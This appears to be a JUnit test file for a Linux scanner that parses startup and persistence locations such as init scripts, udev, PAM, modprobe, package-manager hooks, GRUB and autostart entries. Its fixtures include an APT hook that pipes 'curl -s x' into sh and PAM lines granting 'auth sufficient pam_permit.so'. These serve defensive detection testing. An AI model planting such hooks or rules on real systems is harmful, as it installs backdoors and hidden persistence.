package davy.core.startup;

import static org.assertj.core.api.Assertions.assertThat;

import davy.core.host.Host;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.BiConsumer;
import java.util.function.Consumer;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

final class StartupFilesTest {
    @TempDir private Path root;
    private TreeHost host;

    @BeforeEach
    void host() {
        host = new TreeHost(root);
    }

    private static List<String> shown(List<Launch> launches) {
        return launches.stream()
                .map(launch -> launch.line() + " " + launch.key() + ": " + launch.command())
                .toList();
    }

    @Test
    void findsInitScriptsTheirLinksAndWhatLiesInRunLevels() throws IOException {
        host.write("/etc/init.d/app", "#!/bin/sh\n").write("/etc/init.d/old", "#!/bin/sh\n");
        host.link("/etc/rc3.d/S20app", "../init.d/app").link("/etc/rc0.d/K01app", "../init.d/app");
        host.link("/etc/rc0.d/K01old", "../init.d/old");
        host.write("/etc/rc5.d/S99lone", "#!/bin/sh\n").write("/etc/rc5.d/README", "text");
        host.link("/etc/runlevels/default/app", "/etc/init.d/app");
        var scripts = StartupScripts.read(host).scripts();
        assertThat(scripts)
                .extracting(script -> script.path() + script.links() + script.isStarted())
                .containsExactly(
                        "/etc/init.d/app[/etc/rc0.d/K01app, /etc/rc3.d/S20app,"
                                + " /etc/runlevels/default/app]true",
                        "/etc/init.d/old[/etc/rc0.d/K01old]false",
                        "/etc/rc5.d/S99lone[/etc/rc5.d/S99lone]true");
    }

    @Test
    void findsScriptsOfTheAdministratorAndInittab() throws IOException {
        host.write("/etc/rc.d/rc.local", "x").link("/etc/rc.local", "rc.d/rc.local");
        host.write("/etc/local.d/a.start", "x").write("/etc/rc.d/README", "x");
        host.write(
                "/etc/inittab", "# id:3:initdefault:\nid:3:initdefault:\nx1:2345:respawn:/a b:c\n");
        var found = StartupScripts.read(host);
        assertThat(found.local()).containsExactly("/etc/rc.local", "/etc/local.d/a.start");
        // inittab(5): the process is all that follows the third colon.
        assertThat(found.inittab())
                .extracting(entry -> entry.line() + entry.action() + "|" + entry.process())
                .containsExactly("2initdefault|", "3respawn|/a b:c");
    }

    @Test
    void findsStartUpFilesOfAllPeople() throws IOException {
        host.write(
                "/etc/passwd",
                "root:x:0:0::/root:/bin/sh\na:x:1:1::/srv/a/:/bin/zsh\nn:x:2:2:::\n");
        host.write("/root/.bashrc", "").write("/srv/a/.zshrc", "").write("/home/ldap/.profile", "");
        host.write("/etc/profile.d/x.sh", "")
                .write("/etc/environment", "")
                .write("/etc/profile", "");
        host.write("/srv/a/.config/fish/conf.d/x.fish", "").link("/srv/a/.bashrc", ".zshrc");
        assertThat(ShellStartup.places(host))
                .extracting(place -> place.path() + ' ' + place.syntax())
                .containsExactly(
                        "/etc/profile SHELL",
                        "/etc/environment ENVIRONMENT",
                        "/etc/profile.d/x.sh SHELL",
                        "/root/.bashrc SHELL",
                        "/srv/a/.bashrc SHELL",
                        "/srv/a/.config/fish/conf.d/x.fish SHELL",
                        "/home/ldap/.profile SHELL");
    }

    @Test
    void readsUdevRules() throws IOException {
        host.write(
                "/etc/udev/rules.d/99-a.rules",
                """
                # RUN+="/comment"
                ACTION=="add", ENV{MAJOR}=="1", RUN+="/bin/sh -c 'echo \\"x\\" a'", \\
                  IMPORT{program}="ata_id --export $devnode"
                SUBSYSTEM=="net",RUN{builtin}+="kmod load",RUN{program}=e"/x\\\\y" PROGRAM=="/p %k",
                """);
        host.write("/usr/lib/udev/rules.d/99-a.rules", "RUN+=\"/hidden\"\n");
        host.write("/usr/lib/udev/rules.d/50-b.rules", "RUN-=\"/b\"\n");
        assertThat(shown(Udev.read(host)))
                .containsExactly(
                        "2 RUN: /bin/sh -c 'echo \"x\" a'",
                        "2 IMPORT{program}: ata_id --export $devnode",
                        "4 RUN{program}: /x\\y",
                        "4 PROGRAM: /p %k",
                        "1 RUN: /b");
    }

    @Test
    void readsPamRules() throws IOException {
        host.write(
                "/etc/pam.d/sshd",
                """
                # comment
                @include common-auth
                -auth [success=1 default=ignore] pam_unix.so nullok [a b] # end
                session \\
                  Optional /lib/x.so
                account include other
                """);
        host.write("/etc/pam.d/sshd.dpkg-old", "auth sufficient pam_permit.so\n");
        host.write("/usr/lib/pam.d/sshd", "auth sufficient pam_permit.so\n");
        host.write("/etc/pam.conf", "su auth sufficient pam_permit.so\n");
        assertThat(PamStacks.read(host))
                .extracting(rule ->
                        rule.line()
                                + rule.service()
                                + '|'
                                + rule.type()
                                + '|'
                                + rule.control()
                                + '|'
                                + rule.module()
                                + rule.arguments())
                .containsExactly(
                        "2sshd||@include|common-auth[]",
                        "3sshd|auth|[success=1 default=ignore]|pam_unix.so[nullok, a b]",
                        "4sshd|session|optional|/lib/x.so[]",
                        "6sshd|account|include|other[]",
                        "1su|auth|sufficient|pam_permit.so[]");
    }

    @Test
    void readsModprobeAsModprobeDoes() throws IOException, InterruptedException {
        host.write(
                "/etc/modprobe.d/a.conf",
                """
                # comment
                install floppy /sbin/insmod \\
                  /x.ko
                options snd index=0  model=auto
                blacklist pcspkr
                remove a /bin/true; /bin/false
                alias net-pf-10 off
                """);
        host.write("/etc/modules", "# x\n\nloop max_loop=8\n")
                .write("/etc/modules-load.d/b.conf", "tun\n;c\n");
        var found = Modprobe.read(host);
        assertThat(found.loads())
                .extracting(load -> load.path() + load.line() + load.module())
                .containsExactly("/etc/modules-load.d/b.conf1tun", "/etc/modules3loop");
        assertThat(found.rules()).extracting(Modprobe.Rule::line).containsExactly(2, 4, 5, 6, 7);

        Assumptions.assumeTrue(Files.isExecutable(Path.of("/sbin/modprobe")));
        String folder = root + "/etc/modprobe.d";
        var expected = new ArrayList<String>();
        SystemdTool.run(List.of("/sbin/modprobe", "-C", folder, "-c"))
                .lines()
                .filter(line -> line.matches("(install|options snd|blacklist|remove) .*"))
                .forEach(line -> expected.add(line.replaceAll(" +", " ").strip()));
        var mine = new ArrayList<String>();
        for (var rule : found.rules()) {
            if (!rule.directive().equals("alias")) {
                String text = rule.directive() + ' ' + rule.module() + ' ' + rule.text();
                mine.add(text.replaceAll(" +", " ").strip());
            }
        }
        assertThat(mine).containsExactlyInAnyOrderElementsOf(expected);
    }

    @Test
    void readsAptConfigurationAsAptDoes() throws IOException, InterruptedException {
        String text =
                """
                // comment { "
                # another
                APT::Update::Pre-Invoke {"(curl -s x | sh) 2>/dev/null &";};
                DPkg::Post-Invoke { "a; b"; "c // no comment"; };
                DPkg { Pre-Install-Pkgs:: "/usr/sbin/apt-listchanges --apt || true"; Options { "--force-confdef"; } };
                /* DPkg::Post-Invoke { "no"; }; */
                APT::Periodic::Enable "0";
                Acquire::http::Proxy-Auto-Detect "/usr/bin/proxy";
                """;
        host.write("/etc/apt/apt.conf.d/80x", text).write("/etc/apt/apt.conf.d/81.bak", text);
        assertThat(shown(PackageHooks.read(host)))
                .containsExactly(
                        "3 APT::Update::Pre-Invoke: (curl -s x | sh) 2>/dev/null &",
                        "4 DPkg::Post-Invoke: a; b",
                        "4 DPkg::Post-Invoke: c // no comment",
                        "5 DPkg::Pre-Install-Pkgs::: /usr/sbin/apt-listchanges --apt || true",
                        "8 Acquire::http::Proxy-Auto-Detect: /usr/bin/proxy");

        Assumptions.assumeTrue(Files.isExecutable(Path.of("/usr/bin/apt-config")));
        String alone = "Dir::Etc::parts \"/nonexistent\"; Dir::Etc::main \"/nonexistent\";\n";
        host.write("/alone.conf", alone + text);
        var command = List.of("env", "APT_CONFIG=" + root + "/alone.conf", "apt-config", "dump");
        var expected = new ArrayList<String>();
        SystemdTool.run(command)
                .lines()
                .filter(line -> line.matches("(?i).*(invoke|pkgs|detect|options)[:]* \".+\";"))
                .forEach(line -> expected.add(plain(line)));
        var mine = new ArrayList<String>();
        for (var value : AptConfig.read(text)) {
            if (!value.name().startsWith("APT::Periodic")) {
                mine.add(plain(value.name() + " \"" + value.text() + "\";"));
            }
        }
        assertThat(mine).containsExactlyInAnyOrderElementsOf(expected);
    }

    /// Lists of apt end with colons in its own output.
    private static String plain(String line) {
        return line.replace(":: \"", " \"");
    }

    @Test
    void readsOtherPackageManagers() throws IOException {
        host.write(
                "/etc/dpkg/dpkg.cfg.d/x",
                "# c\npre-invoke=\"/bin/a b\"\npost-invoke /bin/c\nno-debsig\n");
        host.write(
                "/etc/dnf/plugins/post-transaction-actions.d/x.action", "#c\n*:any:/bin/e a:b\n");
        host.write(
                "/etc/dnf/libdnf5-plugins/actions.d/y.actions", "post_transaction:*:in::/bin/f\n");
        host.write("/etc/pacman.d/hooks/z.hook", "[Action]\nWhen=PostTransaction\nExec = /bin/g\n");
        assertThat(shown(PackageHooks.read(host)))
                .containsExactly(
                        "2 pre-invoke: /bin/a b",
                        "3 post-invoke: /bin/c",
                        "2 action *: /bin/e a:b",
                        "1 action post_transaction: /bin/f",
                        "3 Exec: /bin/g");
    }

    @Test
    void readsBootEntries() throws IOException {
        host.write(
                "/boot/grub/grub.cfg",
                """
                menuentry 'Debian' {
                \tlinux\t/boot/vmlinuz root=UUID=1 ro "init=/x y"
                \tinitrd /boot/initrd.img /boot/more
                }
                """);
        host.write(
                "/boot/loader/entries/a.conf",
                "title x\nlinux /v\noptions root=/dev/vda rdinit=/z\n");
        host.write("/etc/default/grub", "GRUB_CMDLINE_LINUX=\"quiet init=/q\"\nGRUB_TIMEOUT=1\n");
        assertThat(BootEntries.read(host))
                .extracting(line -> line.line() + line.keyword() + line.words())
                .containsExactly(
                        "2linux[/boot/vmlinuz, root=UUID=1, ro, init=/x y]",
                        "3initrd[/boot/initrd.img, /boot/more]",
                        "1GRUB_CMDLINE_LINUX[quiet, init=/q]",
                        "2linux[/v]",
                        "3options[root=/dev/vda, rdinit=/z]");
    }

    private List<Launch> taken(BiConsumer<Host, Consumer<Launch>> reader) {
        var found = new ArrayList<Launch>();
        reader.accept(host, found::add);
        return found;
    }

    @Test
    void readsDesktopsBusesAndPolkit() throws IOException {
        host.write("/etc/xdg/autostart/a.desktop", "[Desktop Entry]\nExec=/a %u\n[X]\nExec=/no\n");
        host.write("/root/.config/autostart/b.desktop", "[Desktop Entry]\nExec=/b\nHidden=true\n");
        host.write("/root/.config/autostart/c.desktop", "[Desktop Entry]\nExec=/c\n");
        assertThat(taken(DesktopEntries::autostart))
                .extracting(launch -> launch.user() + launch.command())
                .containsExactly("/a %u", "root/c");
        host.write(
                "/usr/share/dbus-1/system-services/o.service",
                "[D-BUS Service]\nName=o\nExec=/x\nUser=root\n");
        assertThat(taken(DesktopEntries::busServices))
                .extracting(launch -> launch.user() + launch.command())
                .containsExactly("root/x");
        host.write(
                "/etc/polkit-1/localauthority/50-local.d/x.pkla",
                "[a]\nIdentity=unix-user:*\nAction=*;b\nResultAny=yes\n[b]\nAction=c\n");
        assertThat(Polkit.authorities(host))
                .extracting(one -> one.identity() + one.actions() + one.results())
                .containsExactly("unix-user:*[*, b][yes]", "[c][]");
    }

    @Test
    void readsHookFoldersAndInterfaces() throws IOException {
        host.write("/etc/update-motd.d/10-x", "x").write("/etc/network/if-up.d/y", "y");
        host.write(
                "/etc/network/interfaces",
                "auto lo\niface lo inet loopback\n  post-up /bin/a \\\n b\n# up /no\n\tup /c\n");
        assertThat(HookFolders.read(host))
                .containsExactly("/etc/update-motd.d/10-x", "/etc/network/if-up.d/y");
        assertThat(HookFolders.interfaces(host))
                .extracting(launch -> launch.line() + launch.key())
                .containsExactly("3post-up", "6up");
    }

    /// udev(7): "Lines beginning with # are ignored regardless of line continuation"; libpam and
    /// ifupdown alike. modprobe joins lines first, see [#readsModprobeAsModprobeDoes].
    @Test
    void commentTakesNoOtherLineWithIt() throws IOException {
        host.write("/etc/udev/rules.d/x.rules", "# x \\\nRUN+=\"/tmp/x\"\n");
        assertThat(shown(Udev.read(host))).containsExactly("2 RUN: /tmp/x");
        host.write("/etc/network/interfaces", " # x \\\nup /tmp/x\n");
        assertThat(shown(HookFolders.interfaces(host))).containsExactly("2 up: /tmp/x");
        host.write("/etc/default/grub", "# x \\\nGRUB_CMDLINE_LINUX=init=/tmp/x\n");
        assertThat(BootEntries.read(host)).hasSize(1);
        host.write("/etc/inetd.conf", "# x \\\nx stream tcp nowait root /tmp/x x\n");
        assertThat(ConfiguredCommands.read(host)).hasSize(1);
        host.write("/etc/inittab", "# x \\\na:3:wait:/bin/a \\\nx:3:respawn:/tmp/x\n");
        assertThat(StartupScripts.read(host).inittab())
                .extracting(StartupScripts.InittabEntry::process)
                .contains("/tmp/x", "/bin/a x:3:respawn:/tmp/x");
        host.write(
                "/etc/pam.d/x",
                "# x \\\nauth required pam_a.so # x \\\nauth sufficient pam_b.so\n");
        assertThat(PamStacks.read(host))
                .extracting(PamStacks.Rule::module)
                .containsExactly("pam_a.so", "pam_b.so");
    }

    @Test
    void survivesAnything() throws IOException {
        long seed = Long.getLong("davy.seed", 11L);
        var random = new Random(seed);
        String pieces =
                "ab:\"'{}[];=,\\\n\r\0 #/*@%$é\uD800auth sufficient x RUN+= install :: [a]\n";
        for (int round = 0; round < 40; round++) {
            var text = new StringBuilder();
            for (int n = random.nextInt(200); n >= 0; n--) {
                int at = random.nextInt(pieces.length());
                text.append(pieces, at, Math.min(at + random.nextInt(5), pieces.length()));
            }
            String junk = text.toString().replace('\uD800', '?');
            for (String path :
                    List.of(
                            "/etc/inittab",
                            "/etc/passwd",
                            "/etc/pam.d/x",
                            "/etc/pam.conf",
                            "/etc/udev/rules.d/x.rules",
                            "/etc/modprobe.d/x.conf",
                            "/etc/modules",
                            "/etc/apt/apt.conf",
                            "/etc/dpkg/dpkg.cfg",
                            "/etc/yum/post-actions/x.action",
                            "/boot/grub/grub.cfg",
                            "/etc/default/grub",
                            "/etc/network/interfaces",
                            "/etc/xdg/autostart/x.desktop",
                            "/etc/polkit-1/localauthority/a/x.pkla",
                            "/etc/supervisor/conf.d/x",
                            "/etc/snmp/snmpd.conf",
                            "/etc/nrpe.d/x.cfg",
                            "/etc/monit.d/x",
                            "/etc/aliases",
                            "/etc/inetd.conf",
                            "/etc/xinetd.d/x",
                            "/etc/rsyslog.conf",
                            "/etc/vimrc",
                            "/etc/tmpfiles.d/x.conf",
                            "/etc/incron.d/x")) {
                host.write(path, junk);
            }
            var all = new ArrayList<Object>();
            all.add(StartupScripts.read(host));
            all.add(ShellStartup.places(host));
            all.add(Udev.read(host));
            all.add(PamStacks.read(host));
            all.add(Modprobe.read(host));
            all.add(PackageHooks.read(host));
            all.add(BootEntries.read(host));
            all.add(HookFolders.interfaces(host));
            all.addAll(taken(DesktopEntries::autostart));
            all.add(Polkit.authorities(host));
            all.add(ConfiguredCommands.read(host));
            assertThat(all).as("seed " + seed).doesNotContainNull();
        }
    }
}
